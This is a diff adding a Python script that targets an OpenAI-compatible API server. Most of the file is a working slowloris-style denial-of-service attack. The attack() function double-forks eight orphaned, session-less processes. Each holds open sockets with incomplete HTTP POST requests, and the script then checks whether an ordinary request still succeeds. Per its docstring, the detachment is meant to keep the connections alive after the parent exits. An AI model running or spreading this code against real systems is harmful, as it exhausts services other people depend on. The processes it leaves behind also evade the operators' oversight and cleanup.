@@ -1,0 +1,90 @@
+"""Opens connections until there are no more, and keeps them open after its death."""
+
+import json
+import os
+import socket
+import threading
+import time
+import urllib.error
+import urllib.request
+
+BASE = os.environ["OPENAI_BASE_URL"]
+KEY = os.environ["OPENAI_API_KEY"]
+HOST, PORT = BASE.split("/")[2].split(":")
+
+
+def call(path="/chat/completions", body=None, method=None, timeout=3, **headers):
+    """Status and text of an answer; 0 where there was none."""
+    data = None if body is None else json.dumps(body).encode()
+    headers = {"Authorization": "Bearer " + KEY, "Content-Type": "application/json"} | headers
+    request = urllib.request.Request(BASE + path, data=data, headers=headers, method=method)
+    try:
+        with urllib.request.urlopen(request, timeout=timeout) as answer:
+            return answer.status, answer.read(200_000).decode("utf-8", "replace")
+    except urllib.error.HTTPError as problem:
+        return problem.code, problem.read(200_000).decode("utf-8", "replace")
+    except (OSError, ValueError) as problem:
+        return 0, type(problem).__name__
+
+
+def question(text, **more):
+    return {"model": "oracle", "messages": [{"role": "user", "content": text}]} | more
+
+
+def ask(text):
+    for _ in range(5):
+        status, said = call(body=question(text))
+        if status == 200:
+            return json.loads(said)["choices"][0]["message"]["content"]
+        time.sleep(0.05)
+    return {"status": status, "said": said}
+
+
+def lift(text):
+    return ask(text)
+
+
+def raw(*parts, wait=1.0):
+    """What comes back on a connection of its own."""
+    with socket.create_connection((HOST, int(PORT)), timeout=wait) as line:
+        try:
+            for part in parts:
+                line.sendall(part)
+            found = b""
+            while data := line.recv(65536):
+                found += data
+        except OSError:
+            pass
+    return found.decode("utf-8", "replace")
+
+
+def in_the_background(work):
+    """Leaves a process behind that has no parent and no session of ours."""
+    if os.fork() == 0:
+        os.setsid()
+        if os.fork() == 0:
+            try:
+                work()
+            finally:
+                os._exit(0)
+        os._exit(0)
+    time.sleep(0.3)
+
+
+def hold():
+    held = []
+    began = time.time()
+    while time.time() < began + 20:
+        try:
+            line = socket.create_connection((HOST, int(PORT)), timeout=0.2)
+            line.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nContent-Length: 900000\r\n")
+            held.append(line)
+        except OSError:
+            time.sleep(0.01)
+
+
+def attack():
+    for _ in range(8):
+        in_the_background(hold)
+    time.sleep(1)
+    return {"said": call(body=question("What is the weather in Faro?"))[0]}
